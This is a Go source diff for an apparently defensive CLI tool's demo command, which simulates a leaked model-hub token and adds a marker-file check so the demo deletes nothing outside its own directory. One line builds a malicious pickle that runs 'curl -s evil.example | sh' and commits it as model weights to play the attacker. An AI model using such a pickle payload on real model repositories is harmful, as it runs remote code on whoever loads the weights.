@@ -38,7 +38,9 @@ func newDemoCmd(e *env) *cobra.Command {
 simulator token (in a commit that was later "fixed", and in a notebook output),
 then scan → assess → (an attacker uses the token) → audit → revoke → report, recording everything in an incident store.
 DIR (default: a new temporary directory) keeps the repository, the database and
-report.html; a later run in the same DIR replaces them (a fresh run each time). Nothing leaves this machine: the simulator's tokens are valid nowhere
+report.html; a later run in the same DIR replaces them (a fresh run each time).
+DIR must be new, empty or an earlier demo's (marked by a .hfwarden-demo file):
+any other directory is refused with nothing deleted. Nothing leaves this machine: the simulator's tokens are valid nowhere
 else.`,
 		Args: cobra.NoArgs,
 		RunE: func(c *cobra.Command, _ []string) error {
@@ -64,13 +66,18 @@ func runDemo(ctx context.Context, e *env, out string) error {
 	step := func(format string, args ...any) { fmt.Fprintf(e.stdout, "==> "+format+"\n", args...) }
 	// Each run is a fresh run: the simulator starts anew, so an incident
 	// left by an earlier run (already contained) cannot be revoked again.
-	// Only the demo's own files go; anything else in DIR stays.
+	// Only the demo's own files go, and only from a directory an earlier
+	// run marked as the demo's: DIR may be a real store ("hfwarden.db",
+	// "hfwarden.key") or hold somebody's "repo".
 	removed, err := clearDemoDir(out)
 	if err != nil {
-		return fmt.Errorf("clearing the previous demo in %s: %w", out, err)
+		return err
 	}
 	if removed > 0 {
 		step("removed the previous demo's files from %s (a fresh run each time)", out)
+	}
+	if err := os.WriteFile(filepath.Join(out, demoMarker), []byte("written by hfwarden demo: a later demo run in this directory replaces the demo's files\n"), 0o644); err != nil {
+		return fmt.Errorf("marking %s as the demo's: %w", out, err)
 	}
 
 	sc := hubsim.DemoScenario()
@@ -216,7 +223,7 @@ func demoAttack(ctx context.Context, c *hub.Client, leaked string, r *assess.Rep
 	if target == "" {
 		return "", fmt.Errorf("the demo token can write no model")
 	}
-	payload := []byte("\x80\x02cposix\nsystem\nq\x00X\x1a\x00\x00\x00curl -s evil.example | shq\x01\x85q\x02Rq\x03.")
+	payload := []byte("\x80\x02cposix\nsystem\nq\x00X\x19\x00\x00\x00curl -s evil.example | shq\x01\x85q\x02Rq\x03.")
 	if _, err := c.Commit(ctx, leaked, hub.RepoModel, target, "main", "Update weights", map[string][]byte{"pytorch_model.bin": payload}, nil); err != nil {
 		return "", fmt.Errorf("playing the attacker: %w", err)
 	}
@@ -259,9 +266,28 @@ func demoReport(ctx context.Context, st store.Store, in *incident.Incident, occ 
 	return data, nil
 }
 
+// demoMarker is the file a demo run writes in its directory; a later run
+// deletes its previous files only where the marker is.
+const demoMarker = ".hfwarden-demo"
+
 // clearDemoDir removes an earlier demo run's files from dir and says how
-// many there were: only what a demo run writes there, nothing else.
+// many there were: only what a demo run writes there, nothing else, and
+// only when dir holds demoMarker. A dir that is not empty and holds no
+// marker is refused (a usage error) with nothing deleted.
 func clearDemoDir(dir string) (int, error) {
+	if fi, err := os.Lstat(filepath.Join(dir, demoMarker)); err != nil || !fi.Mode().IsRegular() {
+		if err != nil && !errors.Is(err, os.ErrNotExist) {
+			return 0, fmt.Errorf("checking %s for an earlier demo: %w", dir, err)
+		}
+		ents, err := os.ReadDir(dir)
+		if err != nil {
+			return 0, fmt.Errorf("checking %s for an earlier demo: %w", dir, err)
+		}
+		if len(ents) > 0 {
+			return 0, usageErr("--out %s is not empty and was not written by the demo (no %s in it): nothing was deleted; name an empty or new directory", dir, demoMarker)
+		}
+		return 0, nil
+	}
 	n := 0
 	for _, name := range []string{"repo", "cache", "hfwarden.db", "hfwarden.db-wal", "hfwarden.db-shm", "hfwarden.db-journal", "hfwarden.key", "report.html"} {
 		p := filepath.Join(dir, name)
@@ -269,7 +295,7 @@ func clearDemoDir(dir string) (int, error) {
 			continue
 		}
 		if err := os.RemoveAll(p); err != nil {
-			return n, err
+			return n, fmt.Errorf("clearing the previous demo in %s: %w", dir, err)
 		}
 		n++
 	}
